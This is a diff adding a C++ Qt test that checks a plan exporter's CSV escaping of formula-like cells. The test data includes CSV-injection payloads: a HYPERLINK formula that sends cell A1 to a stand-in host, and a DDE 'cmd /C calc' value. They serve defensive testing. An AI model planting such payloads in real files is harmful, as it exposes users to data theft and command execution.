@@ -165,6 +165,70 @@ TEST_F(PlanExport, CsvIsReadBackByPythonsCsvModule)
     }
 }
 
+TEST_F(PlanExport, CsvCellsThatStartLikeAFormulaGetALeadingQuoteAndNothingElseChanges)
+{
+    // GIVEN titles, a company and a posting that a spreadsheet would run as formulas
+    struct Case {
+        QString title, company, posting;            // as entered
+        QString taskCell, companyCell, postingCell; // what the CSV must hold
+    };
+    const auto u = [](const char *text) { return QString::fromUtf8(text); };
+    const QList<Case> cases = {
+        {u("=HYPERLINK(\"http://x.test/?\"&A1,\"열기\")"), u("=카카오"), u("@데이터 엔지니어"),
+         u("'=HYPERLINK(\"http://x.test/?\"&A1,\"열기\")"), u("'=카카오"), u("'@데이터 엔지니어")},
+        {u("+82 10 전화 면접 준비"), u("네이버"), {}, u("'+82 10 전화 면접 준비"), u("네이버"), {}},
+        {u("-2.5"), {}, {}, u("'-2.5"), {}, {}},
+        {u("-3h 복습: 추천 시스템"), {}, {}, u("'-3h 복습: 추천 시스템"), {}, {}},
+        {u("@SUM(1+1)*cmd|' /C calc'!A0"), {}, {}, u("'@SUM(1+1)*cmd|' /C calc'!A0"), {}, {}},
+        {u("\t=1+1 탭"), {}, {}, u("'\t=1+1 탭"), {}, {}},
+        {u("\r=1+1"), {}, {}, u("'\r=1+1"), {}, {}},
+        // Ordinary text, a formula sign inside, a quote or a space in front: exactly as entered.
+        {u("Spark 스터디"), u("카카오"), u("데이터 엔지니어 (신입)"), u("Spark 스터디"), u("카카오"),
+         u("데이터 엔지니어 (신입)")},
+        {u("a=b+c-d@e"), {}, {}, u("a=b+c-d@e"), {}, {}},
+        {u("'이미 따옴표"), {}, {}, u("'이미 따옴표"), {}, {}},
+        {u(" =공백 뒤"), {}, {}, u(" =공백 뒤"), {}, {}},
+    };
+    QList<PlacedTask> tasks;
+    for (int i = 0; i < cases.size(); ++i)
+        tasks << placed(i + 1, cases[i].title, Quadrant::Schedule, 1, {}, Repeat::None, {},
+                        cases[i].company);
+    PlanInput in = planInput(tasks);
+    for (int i = 0; i < cases.size(); ++i) {
+        if (!cases[i].posting.isEmpty())
+            in.postingTitles.insert(i + 1, cases[i].posting);
+    }
+    const WeeklyPlan week = WeeklyPlanner::plan(in);
+    const QList<PlanBlock> blocks = week.allBlocks();
+    ASSERT_EQ(blocks.size(), cases.size()) << "one block per task, or the test proves less";
+
+    // WHEN the CSV is written and read back by Python's csv module
+    const QJsonObject r =
+        readWithPython("read_csv.py", write(QStringLiteral("formulas.csv"), planToCsv(week)));
+    const QJsonArray rows = r[QStringLiteral("rows")].toArray();
+    ASSERT_EQ(rows.size(), blocks.size());
+    QSet<Id> seen;
+    for (int i = 0; i < rows.size(); ++i) {
+        const QStringList row = rows[i].toVariant().toStringList();
+        const PlanBlock &b = blocks[i];
+        const Case &c = cases[int(b.taskId) - 1];
+        seen.insert(b.taskId);
+        ASSERT_EQ(row.size(), 9);
+        // THEN each cell is exactly what was entered, a ' in front where it started like a formula
+        EXPECT_EQ(row[4].toStdString(), c.taskCell.toStdString()) << i;
+        EXPECT_EQ(row[7].toStdString(), c.companyCell.toStdString()) << i;
+        EXPECT_EQ(row[8].toStdString(), c.postingCell.toStdString()) << i;
+        // and the cells the exporter makes itself are untouched
+        EXPECT_EQ(row[0], b.date.toString(Qt::ISODate));
+        EXPECT_EQ(row[1], planformat::clockText(b.startMinute));
+        EXPECT_EQ(row[2], planformat::clockText(b.endMinute()));
+        EXPECT_EQ(row[3], QStringLiteral("1"));
+        EXPECT_EQ(row[5], QStringLiteral("study"));
+        EXPECT_EQ(row[6], QStringLiteral("Schedule"));
+    }
+    EXPECT_EQ(seen.size(), cases.size());
+}
+
 TEST_F(PlanExport, MarkdownHasEveryBlockUnderItsDay)
 {
     const QJsonObject r = readWithPython("read_md.py", write(QStringLiteral("plan.md"), exportPlan(plan, PlanFormat::Markdown, {}, kStamp)));
